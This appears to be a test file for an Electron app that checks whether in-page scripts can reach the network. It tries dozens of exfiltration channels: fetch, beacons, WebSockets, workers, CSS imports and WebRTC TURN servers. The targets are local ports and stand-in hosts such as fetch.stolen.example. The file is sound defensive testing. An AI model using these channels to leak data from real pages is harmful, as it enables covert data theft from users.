import { createSocket } from 'node:dgram';
import { readFileSync } from 'node:fs';
import { type AddressInfo, createServer } from 'node:net';
import { join } from 'node:path';
import { expect, onTestFinished, test } from 'vitest';
import { tempDir } from '../support/files/temp-dir.ts';
import { takeWindow } from '../support/window/worker-window.ts';

/** A port that nobody should connect to; counts connections. */
async function openTcp() {
  let visits = 0;
  const server = createServer((socket) => {
    visits += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => void server.close());
  return { port: (server.address() as AddressInfo).port, visits: () => visits };
}

async function openUdp() {
  let datagrams = 0;
  const socket = createSocket('udp4');
  socket.on('message', () => {
    datagrams += 1;
  });
  await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve));
  onTestFinished(() => void socket.close());
  return { port: socket.address().port, datagrams: () => datagrams };
}

interface Ports {
  web: number;
  udp: number;
  turn: number;
}

/**
 * Tries every way to the network that a script in the page can find, with this computer's ports and with
 * names that contain stolen data.
 */
async function tryEverything({ web, udp, turn }: Ports): Promise<string[]> {
  const tried: string[] = [];
  const attempt = (name: string, work: () => unknown) => {
    tried.push(name);
    try {
      void Promise.resolve(work()).catch(() => undefined);
    } catch {
      // Refused.
    }
  };
  const here = `http://127.0.0.1:${web}`;
  const add = (tag: string, parts: Record<string, string>, parent: Element = document.body) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(parts)) element.setAttribute(name, value);
    parent.append(element);
    return element;
  };
  for (const rel of [
    'preconnect',
    'dns-prefetch',
    'prefetch',
    'preload',
    'prerender',
    'modulepreload',
    'icon',
    'stylesheet',
    'manifest',
  ])
    for (const address of [`${here}/${rel}`, `https://${rel}.stolen.example/x`])
      attempt(`link ${rel}`, () => add('link', { rel, href: address, as: 'fetch' }, document.head));
  const rules = { prefetch: [{ source: 'list', urls: [`${here}/rules`, 'https://rules.stolen.example/'] }] };
  attempt('rules', () => {
    const script = document.createElement('script');
    script.type = 'speculationrules';
    script.textContent = JSON.stringify(rules);
    document.head.append(script);
  });
  attempt('meta', () =>
    add('meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' }, document.head),
  );
  attempt('refresh', () =>
    add('meta', { 'http-equiv': 'refresh', content: `0;url=${here}/refresh` }, document.head),
  );
  for (const [tag, name] of [
    ['img', 'src'],
    ['script', 'src'],
    ['iframe', 'src'],
    ['video', 'src'],
    ['audio', 'src'],
    ['embed', 'src'],
    ['object', 'data'],
    ['input', 'src'],
    ['webview', 'src'],
  ] as const)
    for (const address of [`${here}/${tag}`, `https://${tag}.stolen.example/`])
      attempt(tag, () => add(tag, { [name]: address, type: tag === 'input' ? 'image' : '' }));
  attempt('style', () => {
    const style = document.createElement('style');
    style.textContent = `@import url(${here}/import); @font-face { font-family: x; src: url(${here}/font) } body { background: url(${here}/css); font-family: x }`;
    document.head.append(style);
  });
  attempt('form', () =>
    (add('form', { action: `${here}/form`, method: 'post' }) as HTMLFormElement).submit(),
  );
  attempt('ping', () => (add('a', { href: '#x', ping: `${here}/ping` }) as HTMLElement).click());
  attempt('location', () => {
    location.href = `${here}/location`;
  });
  attempt('open', () => window.open(`${here}/open`));
  attempt('fetch', () => fetch(`${here}/fetch`, { mode: 'no-cors' }));
  attempt('fetch name', () => fetch('https://fetch.stolen.example/', { mode: 'no-cors' }));
  attempt('xhr', () => {
    const request = new XMLHttpRequest();
    request.open('GET', `${here}/xhr`);
    request.send();
  });
  attempt('beacon', () => navigator.sendBeacon(`${here}/beacon`, 'x'));
  attempt('events', () => new EventSource(`${here}/events`));
  attempt('socket', () => new WebSocket(`ws://127.0.0.1:${web}/`));
  attempt('socket name', () => new WebSocket('wss://socket.stolen.example/'));
  attempt('transport', () => {
    const { WebTransport } = window as unknown as { WebTransport?: new (url: string) => unknown };
    return WebTransport === undefined ? null : new WebTransport(`https://127.0.0.1:${udp}/`);
  });
  attempt('worker', () => new Worker(URL.createObjectURL(new Blob([`fetch('${here}/worker')`]))));
  attempt('worker data', () => new Worker(`data:text/javascript,fetch('${here}/worker')`));
  attempt('service worker', () => navigator.serviceWorker?.register(`${here}/sw.js`));
  attempt('import', () => new Function('address', 'return import(address)')(`${here}/import.js`));
  attempt('geolocation', () => navigator.geolocation?.getCurrentPosition(() => undefined));

  // A page whose own window lacks RTCPeerConnection would find it in a frame.
  const frame = add('iframe', {}) as HTMLIFrameElement;
  const inFrame = (frame.contentWindow as unknown as { RTCPeerConnection: typeof RTCPeerConnection })
    .RTCPeerConnection;
  const servers = [
    `stun:127.0.0.1:${udp}`,
    `turn:127.0.0.1:${udp}?transport=udp`,
    `turn:127.0.0.1:${turn}?transport=tcp`,
    `turns:127.0.0.1:${turn}?transport=tcp`,
    'stun:stun.stolen.example:3478',
    'turn:turn-udp.stolen.example:3478?transport=udp',
    'turn:turn-tcp.stolen.example:3478?transport=tcp',
    'turns:turn-tls.stolen.example:443?transport=tcp',
  ];
  const peers: RTCPeerConnection[] = [];
  for (const Peer of [RTCPeerConnection, inFrame]) {
    for (const urls of servers)
      for (const policy of ['all', 'relay'] as const) {
        const server = urls.startsWith('stun') ? { urls } : { urls, username: 'STOLEN', credential: 'x' };
        const peer = new Peer({ iceServers: [server], iceTransportPolicy: policy, iceCandidatePoolSize: 2 });
        peers.push(peer);
        peer.createDataChannel('x');
        attempt(`peer ${urls}`, async () => peer.setLocalDescription(await peer.createOffer()));
      }
    // The page makes up the other side's candidate.
    const [one, two] = [new Peer(), new Peer()];
    peers.push(one, two);
    one.createDataChannel('x');
    attempt('candidates', async () => {
      await one.setLocalDescription(await one.createOffer());
      if (one.localDescription !== null) await two.setRemoteDescription(one.localDescription);
      await two.setLocalDescription(await two.createAnswer());
      if (two.localDescription !== null) await one.setRemoteDescription(two.localDescription);
      for (const [protocol, address, port] of [
        ['udp', '127.0.0.1', udp],
        ['tcp', '127.0.0.1', turn],
        ['udp', 'candidate.stolen.example', 4_000],
        ['udp', '01234567-89ab-cdef-0123-456789abcdef.local', 4_000],
      ]) {
        const kind = protocol === 'tcp' ? ' tcptype passive' : '';
        const candidate = `candidate:1 1 ${protocol} 2122260223 ${address} ${port} typ host${kind}`;
        await one.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 }).catch(() => undefined);
      }
    });
  }
  // Waits while the browser gathers candidates.
  const isDone = (peer: RTCPeerConnection) =>
    peer.iceGatheringState === 'complete' || peer.localDescription === null;
  for (let turns = 0; turns < 20 && !peers.every(isDone); turns += 1)
    await new Promise((resolve) => setTimeout(resolve, 250));
  await new Promise((resolve) => setTimeout(resolve, 1_500));
  return tried;
}

/** Hosts that Chromium's network service resolved, was asked to resolve, or connected to, by its own log. */
function hostsIn(path: string): string[] {
  const text = readFileSync(path, 'utf8');
  return [...new Set([...text.matchAll(/([\w-]+)\.stolen\.example/g)].map(([, name]) => name ?? ''))].sort();
}

test('nothing that a script in the page can do reaches the network: no connection, no datagram, no name looked up', async () => {
  const [web, turn, udp] = [await openTcp(), await openTcp(), await openUdp()];
  const { app, page } = await takeWindow();
  const log = join(tempDir(), 'net.json');
  await app.evaluate(({ session }, log) => session.defaultSession.netLog.startLogging(log), log);
  const tried = await page.evaluate(tryEverything, { web: web.port, udp: udp.port, turn: turn.port });
  expect(tried.length).toBeGreaterThan(80);
  await app.evaluate(({ session }) => session.defaultSession.netLog.stopLogging());
  expect({ tcp: web.visits(), turn: turn.visits(), udp: udp.datagrams() }).toEqual({
    tcp: 0,
    turn: 0,
    udp: 0,
  });
  expect(hostsIn(log)).toEqual([]);
  expect(page.url()).toMatch(/^app:\/\/stackdesk\//);
});

test('a page’s request is refused even if its policy let it through', async () => {
  const web = await openTcp();
  const { app } = await takeWindow();
  const answer = await app.evaluate(async ({ BrowserWindow, app }, port) => {
    const window = new BrowserWindow({ show: false });
    // Our own page without its policy, as after a flaw of the scheme.
    await window.loadURL('app://stackdesk/');
    window.webContents.session.webRequest.onHeadersReceived((details, done) =>
      done({ responseHeaders: { ...details.responseHeaders, 'Content-Security-Policy': [''] } }),
    );
    const fetched = await window.webContents.session.resolveProxy(`http://127.0.0.1:${port}/`);
    const got = await window
      .loadURL(`http://127.0.0.1:${port}/`)
      .then(() => 'loaded')
      .catch((error: Error) => error.message);
    window.webContents.session.webRequest.onHeadersReceived(null);
    window.destroy();
    return { fetched, got, packaged: app.isPackaged };
  }, web.port);
  expect(answer.fetched).toBe('PROXY 127.0.0.1:0');
  expect(answer.got).toMatch(/ERR_BLOCKED_BY_CLIENT/);
  expect(web.visits()).toBe(0);
});
